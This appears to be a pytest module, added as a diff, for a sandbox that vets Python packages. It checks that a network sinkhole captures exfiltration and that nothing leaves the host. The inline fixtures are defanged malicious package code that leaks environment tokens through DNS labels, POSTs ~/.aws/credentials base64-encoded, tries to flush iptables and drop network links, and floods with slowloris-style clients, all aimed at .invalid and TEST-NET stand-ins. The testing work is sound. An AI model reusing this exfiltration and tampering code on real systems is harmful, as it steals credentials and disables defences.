@@ -1,0 +1,435 @@
+"""The sinkhole end to end, in the real sandbox: capture, proof of exfiltration, and
+that nothing leaves.
+
+Fixtures are defanged replicas built by the tests: they target only ``*.invalid``
+/ ``*.example`` names and TEST-NET addresses, run only inside the sandbox (the
+tests hand their paths to ``pkgsandbox vet``), and every run randomises what a
+shortcut could key on (which secret, label sizes, domains, addresses).
+
+While this module runs, host-side iptables counters (raw PREROUTING and OUTPUT,
+every interface, IPv4 and IPv6) watch for any packet that carries this session's
+marker — every fixture puts it in what it sends: DNS names, SNI, HTTP headers,
+datagrams — or that goes to this session's port, where the fixtures that send
+no payload connect. The last test asserts the counters stayed at zero; a control
+run (a container on Docker's default bridge sending the same kind of traffic to a
+listener of the test's own on the bridge's gateway) shows that the same check
+catches traffic that does leave a container.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import re
+import secrets
+import shutil
+import socket
+import subprocess
+import textwrap
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sandbox.models import NetworkCapture, Phase, PhaseStatus, Report, Severity, Verdict
+from sandbox.runner.engine import LABEL, LABEL_DEADLINE, LABEL_OWNER, owner_label
+from tests.conftest import run_cli
+from tests.fixtures.builders import Randomised, build_wheel, ctypes_connect_source
+
+pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")
+
+
+
+def _port() -> int:
+    """A random port below the host's ephemeral range: no reply to one of the host's
+    own connections can be addressed to it."""
+    try:
+        low = int(Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split()[0])
+    except (OSError, ValueError, IndexError):
+        low = 32768
+    return 10000 + secrets.randbelow(max(1000, low - 10000))
+
+
+MARKER = f"lk{secrets.token_hex(5)}"  # in every byte the fixtures send
+LEAK_PORT = _port()  # where the payload-less fixtures connect
+
+
+# ---------------------------------------------------------------------- the host-side check
+
+
+class LeakCheck:
+    """Counting rules in the host's raw table (PREROUTING: everything that arrives
+    from any interface, containers' included; OUTPUT: everything the host sends):
+    packets carrying *marker*, and TCP/UDP packets to *port*."""
+
+    RULES = ("marker", "udp port", "tcp port")
+
+    def __init__(self, marker: str, port: int) -> None:
+        self.marker = marker
+        self.port = port
+        self.chain = f"PSLEAK-{secrets.token_hex(3)}"
+        self.tools = [t for t in ("iptables", "ip6tables") if shutil.which(t)]
+
+    def _run(self, tool: str, *args: str, check: bool = True) -> str:
+        proc = subprocess.run([tool, "-w", "-t", "raw", *args], capture_output=True, text=True)
+        if check and proc.returncode != 0:
+            raise RuntimeError(f"{tool} {' '.join(args)}: {proc.stderr.strip()}")
+        return proc.stdout
+
+    def install(self) -> None:
+        for tool in self.tools:
+            self._run(tool, "-N", self.chain)
+            # rules without a target only count, so every packet meets all three
+            self._run(tool, "-A", self.chain, "-m", "string", "--string", self.marker, "--algo", "bm")
+            self._run(tool, "-A", self.chain, "-p", "udp", "--dport", str(self.port))
+            self._run(tool, "-A", self.chain, "-p", "tcp", "--dport", str(self.port))
+            for hook in ("PREROUTING", "OUTPUT"):
+                self._run(tool, "-I", hook, "1", "-j", self.chain)
+
+    def counts(self) -> dict[str, int]:
+        """Packets per rule, summed over IPv4 and IPv6."""
+        total = dict.fromkeys(self.RULES, 0)
+        for tool in self.tools:
+            lines = self._run(tool, "-L", self.chain, "-v", "-x", "-n").splitlines()[2:]
+            for name, line in zip(self.RULES, lines, strict=True):
+                total[name] += int(line.split()[0])
+        return total
+
+    def remove(self) -> None:
+        for tool in self.tools:
+            for hook in ("PREROUTING", "OUTPUT"):
+                self._run(tool, "-D", hook, "-j", self.chain, check=False)
+            self._run(tool, "-F", self.chain, check=False)
+            self._run(tool, "-X", self.chain, check=False)
+
+
+def _can_check() -> str | None:
+    if not shutil.which("iptables"):
+        return "the host has no iptables"
+    proc = subprocess.run(["iptables", "-w", "-t", "raw", "-L", "OUTPUT", "-n"], capture_output=True,
+                          text=True)
+    return None if proc.returncode == 0 else f"cannot read the host's raw table: {proc.stderr.strip()[:100]}"
+
+
+@pytest.fixture(scope="module")
+def leak_check() -> Iterator[LeakCheck]:
+    why = _can_check()
+    if why:
+        pytest.skip(f"host-side leak check unavailable ({why}; run as root)")
+    check = LeakCheck(MARKER, LEAK_PORT)
+    check.install()
+    try:
+        yield check
+    finally:
+        check.remove()
+
+
+# ---------------------------------------------------------------------- helpers
+
+
+def vet(tmp_path: Path, leak_check: LeakCheck, name: str, src: str) -> Report:
+    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
+    _code, report = run_cli(tmp_path, str(whl))
+    assert report is not None
+    return report
+
+
+def net_of(report: Report) -> NetworkCapture:
+    assert report.network is not None and report.network.enabled, report.network
+    return report.network
+
+
+def output_facts(report: Report) -> dict[str, Any]:
+    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
+    m = re.search(r"FACTS (\{.*\})", imp.output_tail)
+    assert m, imp.output_tail
+    facts: dict[str, Any] = json.loads(m.group(1))
+    return facts
+
+
+def finding(report: Report, rule: str) -> Any:
+    found = [f for f in report.findings if f.rule_id == rule]
+    assert found, f"no {rule}: {[(f.rule_id, f.message[:80]) for f in report.findings]}"
+    return found[0]
+
+
+# ---------------------------------------------------------------------- acceptance
+
+
+def test_token_exfiltrated_by_dns_hex_labels_is_proven(tmp_path: Path, leak_check: LeakCheck) -> None:
+    r = Randomised()
+    var = r.rng.choice(["GITHUB_TOKEN", "OPENAI_API_KEY", "HF_TOKEN", "NPM_TOKEN"])
+    src = textwrap.dedent(f"""\
+        import json, os, random, socket, struct
+        data = os.environ.get({var!r}, "none").encode().hex()
+        labels, i = [], 0
+        while i < len(data):  # random label sizes, as exfiltration code splits
+            n = random.randrange(8, 64)
+            labels.append(data[i:i + n])
+            i += n
+        name = ".".join(labels + [{MARKER!r}, {r.domain().replace('.example', '.invalid')!r}])
+        try:
+            socket.getaddrinfo(name, 443)
+        except OSError:
+            pass
+        # the same through a resolver on 127.x, asked directly
+        q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(
+            bytes([len(p)]) + p.encode() for p in ("probe", {MARKER!r}, "invalid")) + b"\\0\\0\\1\\0\\1"
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(3)
+        s.sendto(q, ("127.0.0.53", 53))
+        reply = s.recv(512)
+        ok = reply[:2] == b"\\0\\7" and reply[7] == 1
+        print("FACTS " + json.dumps({{"stub_answered": ok}}))
+        """)
+    report = vet(tmp_path, leak_check, r.name("dnsx"), src)
+    net = net_of(report)
+    x = next(x for x in net.exfiltration if x.canary == var)
+    assert x.channel == "dns" and x.location == f"env {var}" and "hex" in x.encoding
+    assert x.phase is Phase.IMPORT and x.pid and x.process and MARKER in (x.host or "")
+    assert report.verdict is Verdict.MALICIOUS
+    f = finding(report, "PS010")
+    assert f.severity is Severity.CRITICAL and f.phase is Phase.IMPORT
+    assert any(var in e.detail or e.path == f"env {var}" for e in f.evidence)
+    queries = [q for q in net.dns if MARKER in q.name]
+    assert {q.qtype for q in queries} >= {"A"} and all(q.answer for q in queries if q.qtype == "A")
+    stub = [q for q in queries if q.name.startswith("probe.")]
+    assert stub and output_facts(report)["stub_answered"], "a resolver on 127.x must reach the sinkhole too"
+    assert "PS011" in {f.rule_id for f in report.findings}
+
+
+def test_aws_credentials_posted_base64_over_http_is_proven(tmp_path: Path, leak_check: LeakCheck) -> None:
+    r = Randomised()
+    host, path = r.address(), f"/{r.name('u')}"
+    src = textwrap.dedent(f"""\
+        import base64, json, os, socket
+        body = base64.b64encode(open(os.path.expanduser("~/.aws/credentials"), "rb").read())
+        s = socket.create_connection(({host!r}, {LEAK_PORT}), timeout=5)
+        s.sendall(b"POST {path} HTTP/1.1\\r\\nHost: {MARKER}.example\\r\\nContent-Type: text/plain\\r\\n"
+                  b"Content-Length: " + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
+        reply = s.recv(200)
+        s.close()
+        print("FACTS " + json.dumps({{"reply": reply.split(b"\\r\\n")[0].decode()}}))
+        """)
+    report = vet(tmp_path, leak_check, r.name("awsx"), src)
+    net = net_of(report)
+    conn = next(c for c in net.connections if c.destination == f"{host}:{LEAK_PORT}")
+    assert conn.protocol == "http" and conn.pid and conn.process
+    req = conn.http[0]
+    assert (req.method, req.target, req.host) == ("POST", path, f"{MARKER}.example") and req.complete
+    assert req.body_bytes > 100 and not req.body_truncated
+    xs = [x for x in net.exfiltration if x.location == "~/.aws/credentials"]
+    assert {x.canary for x in xs} == {"aws_access_key_id", "aws_secret_access_key"}
+    assert all(x.channel == "http" and x.destination == f"{host}:{LEAK_PORT}" and "base64" in x.encoding
+               for x in xs)
+    assert output_facts(report)["reply"] == "HTTP/1.1 200 OK"  # answered, so malware goes on sending
+    assert [rd.location for rd in net.honeytoken_reads] == ["~/.aws/credentials"]
+    assert {"PS010", "PS012", "PS001", "PS002"} <= {f.rule_id for f in report.findings}
+    assert report.findings[0].rule_id == "PS010"
+
+
+def test_tls_sni_raw_udp_and_ctypes_connect_are_recorded(tmp_path: Path, leak_check: LeakCheck) -> None:
+    r = Randomised()
+    sni = f"{MARKER}.{r.domain().replace('.example', '.invalid')}"
+    udp_host, c_host = r.address(), r.address()
+    payload = f"{MARKER}-{secrets.token_hex(4)}"
+    src = textwrap.dedent(f"""\
+        import json, os, socket, ssl, subprocess
+        facts = {{}}
+        try:
+            raw = socket.create_connection(({sni!r}, 443), timeout=5)
+            ctx = ssl.create_default_context()
+            ctx.set_alpn_protocols(["h2", "http/1.1"])
+            ctx.wrap_socket(raw, server_hostname={sni!r})
+        except Exception as exc:
+            facts["tls"] = type(exc).__name__
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        u.sendto({payload.encode()!r}, ({udp_host!r}, {LEAK_PORT}))
+        # the candidate can neither see nor change the rules
+        for cmd in (["/usr/sbin/iptables", "-t", "nat", "-F"], ["ip", "link", "set", "eth0", "down"],
+                    ["ip", "route", "del", "default"]):
+            try:
+                facts[cmd[0]] = subprocess.run(cmd, capture_output=True, text=True).returncode
+            except OSError as exc:
+                facts[cmd[0]] = str(exc)
+        st = dict(l.split(":", 1) for l in open("/proc/self/status") if ":" in l)
+        tracer = int(st["TracerPid"])
+        tst = dict(l.split(":", 1) for l in open(f"/proc/{{tracer}}/status") if ":" in l)
+        facts["tracer_capeff"] = tst["CapEff"].strip()
+        facts["cap_bnd"] = st["CapBnd"].strip()
+        facts["dockerenv"] = os.path.exists("/.dockerenv")
+        facts["cgroup"] = open("/proc/self/cgroup").read()
+        print("FACTS " + json.dumps(facts))
+        """) + ctypes_connect_source(c_host, LEAK_PORT)
+    report = vet(tmp_path, leak_check, r.name("mixed"), src)
+    net = net_of(report)
+    tls = next(c for c in net.connections if c.tls is not None)
+    assert tls.tls is not None and tls.tls.sni == sni and tls.tls.alpn == ("h2", "http/1.1")
+    assert tls.host == sni and tls.destination.endswith(":443")
+    assert any(q.name == sni for q in net.dns)
+    gram = next(d for d in net.datagrams if MARKER in d.data)
+    assert gram.destination == f"{udp_host}:{LEAK_PORT}" and gram.pid and gram.bytes == len(payload)
+    ctc = next(c for c in net.connections if c.destination == f"{c_host}:{LEAK_PORT}")
+    assert ctc.protocol == "empty" and ctc.pid
+    facts = output_facts(report)
+    assert facts["tls"] in ("SSLError", "SSLCertVerificationError") or "SSL" in facts["tls"]
+    assert facts["/usr/sbin/iptables"] != 0 and facts["ip"] != 0
+    assert int(facts["cap_bnd"], 16) == 0
+    assert not int(facts["tracer_capeff"], 16) & (1 << 12), "strace must not hold NET_ADMIN"
+    assert facts["dockerenv"] is False and "docker" not in facts["cgroup"]
+    # and after the failed tampering, traffic still reached the sinkhole (the datagram above came later)
+    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
+    assert imp.status is PhaseStatus.OK
+
+
+def test_benign_package_has_an_empty_network_section(tmp_path: Path, leak_check: LeakCheck) -> None:
+    r = Randomised()
+    name = r.name("calm")
+    report = vet(tmp_path, leak_check, name, "import json, os\nVALUE = json.dumps({'a': os.sep})\n")
+    net = net_of(report)
+    assert net.quiet and not net.exfiltration and not net.honeytoken_reads and net.dropped == 0
+    assert net.honeytokens, "honeytokens were planted"
+    assert report.verdict is Verdict.CLEAN, (report.verdict_reason, report.findings)
+
+
+def test_hostile_clients_are_bounded_and_never_block_the_run(tmp_path: Path, leak_check: LeakCheck) -> None:
+    r = Randomised()
+    big_host, many_host, slow_host, junk_host = r.address(), r.address(), r.address(), r.address()
+    src = textwrap.dedent(f"""\
+        import os, socket, threading, time
+        mark = {MARKER!r}.encode()
+        # many connections at once, kept open while the rest goes on
+        socks = []
+        for _ in range(600):
+            try:
+                s = socket.create_connection(({many_host!r}, {LEAK_PORT}), timeout=3)
+                socks.append(s)
+                s.send(mark)
+            except OSError:
+                pass  # the sinkhole closes the quietest flows when it is full
+        # a huge body
+        s = socket.create_connection(({big_host!r}, {LEAK_PORT}), timeout=10)
+        size = 20 << 20
+        s.sendall(b"POST /big HTTP/1.1\\r\\nHost: " + mark
+                  + b".example\\r\\nContent-Length: %d\\r\\n\\r\\n" % size)
+        chunk = mark * (65536 // len(mark))
+        sent = 0
+        while sent < size:
+            part = chunk[: size - sent]
+            s.sendall(part)
+            sent += len(part)
+        s.settimeout(10)
+        s.recv(100)
+        # malformed DNS, to the configured resolver and to one on 127.x
+        resolver = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        junks = (b"", b"\\x01", mark, b"\\x12\\x34\\x01\\x00\\x00\\x01" + b"\\xff" * 40,
+                 os.urandom(300) + mark)
+        for junk in junks:
+            for dst in (resolver, "127.0.0.53"):
+                u.sendto(junk, (dst, 53))
+        # binary garbage on 443
+        g = socket.create_connection(({junk_host!r}, 443), timeout=3)
+        g.sendall(b"\\x16\\x03\\x01\\xff\\xff" + os.urandom(4000) + mark)
+        g.close()
+        for s in socks:
+            s.close()
+        # a slowloris client that never finishes its request
+        def slow():
+            c = socket.create_connection(({slow_host!r}, {LEAK_PORT}), timeout=3)
+            c.send(b"GET /" + mark + b" HTTP/1.1\\r\\nHost: x.invalid\\r\\n")
+            while True:
+                c.send(b"X")
+                time.sleep(0.05)
+        threading.Thread(target=slow, daemon=True).start()
+        time.sleep(0.5)
+        """)
+    t0 = time.monotonic()
+    report = vet(tmp_path, leak_check, r.name("hostile"), src)
+    took = time.monotonic() - t0
+    assert took < 120, took
+    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
+    assert imp.status is PhaseStatus.OK and imp.trace_complete
+    net = net_of(report)
+    assert net.truncated
+    big = max((c for c in net.connections if c.destination.startswith(big_host + ":")), key=lambda c: c.bytes)
+    assert big.bytes >= 20 << 20 and big.captured == 64 * 1024 and big.truncated
+    assert big.http[0].body_bytes == 20 << 20 and big.http[0].body_truncated
+    many = [c for c in net.connections if c.destination.startswith(many_host + ":")]
+    assert 0 < len(many) <= 600 and any(c.close_reason == "evicted" and c.truncated for c in many)
+    malformed = [q for q in net.dns if q.malformed]
+    assert len(malformed) >= 6
+    junk = next(c for c in net.connections if c.destination == f"{junk_host}:443")
+    assert junk.tls is not None and junk.tls.error
+    slow = next(c for c in net.connections if c.destination.startswith(slow_host + ":"))
+    assert slow.http and not slow.http[0].complete and slow.truncated
+
+
+# ---------------------------------------------------------------------- nothing left
+
+
+def _bridge_gateway(client: Any) -> str:
+    cfg = client.networks.get("bridge").attrs["IPAM"]["Config"]
+    return str(next(c["Gateway"] for c in cfg if ":" not in c.get("Gateway", ":")))
+
+
+def test_control_the_check_catches_traffic_that_leaves_a_container(docker_client: Any,
+                                                                   sandbox_image: Any) -> None:
+    """A container on Docker's default bridge sends the same kind of traffic to a
+    listener of this test on the bridge's gateway: the same check must count it."""
+    why = _can_check()
+    if why:
+        pytest.skip(f"host-side leak check unavailable ({why})")
+    marker, port = f"lk{secrets.token_hex(5)}", _port()
+    gateway = _bridge_gateway(docker_client)
+    got: dict[str, bytes] = {}
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind((gateway, port))
+    udp.settimeout(30)
+    tcp = socket.socket()
+    tcp.bind((gateway, port))
+    tcp.listen(1)
+    tcp.settimeout(30)
+
+    def serve() -> None:
+        try:
+            got["udp"] = udp.recv(100)
+            conn, _ = tcp.accept()
+            with conn:
+                got["tcp"] = conn.recv(100)
+        except OSError:
+            pass
+
+    server = threading.Thread(target=serve, daemon=True)
+    server.start()
+    check = LeakCheck(marker, port)
+    check.install()
+    code = (f"import socket; u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+            f"u.sendto(b'{marker}', ('{gateway}', {port})); import time; time.sleep(0.2); "
+            f"t = socket.create_connection(('{gateway}', {port}), timeout=10); t.sendall(b'{marker}'); "
+            "t.close()")
+    name = f"pkgsandbox-control-{secrets.token_hex(4)}"
+    try:
+        docker_client.containers.run(
+            sandbox_image.tag, ["python3", "-c", code], name=name, network_mode="bridge", remove=True,
+            labels={LABEL: "control", LABEL_OWNER: owner_label(),
+                    LABEL_DEADLINE: str(int(time.time() + 120))})
+        server.join(30)
+        counts = check.counts()
+    finally:
+        check.remove()
+        udp.close()
+        tcp.close()
+        with contextlib.suppress(Exception):
+            docker_client.containers.get(name).remove(force=True)
+    assert got.get("udp") == marker.encode() and got.get("tcp") == marker.encode(), got
+    assert all(n > 0 for n in counts.values()), counts  # every rule of the check can fire
+
+
+def test_zz_nothing_from_a_sandbox_reached_the_host_network(leak_check: LeakCheck) -> None:
+    """Runs last in this module: every fixture above sent the marker or used the
+    port, from inside the sandbox, thousands of times; the host saw none of it."""
+    assert leak_check.counts() == dict.fromkeys(LeakCheck.RULES, 0)
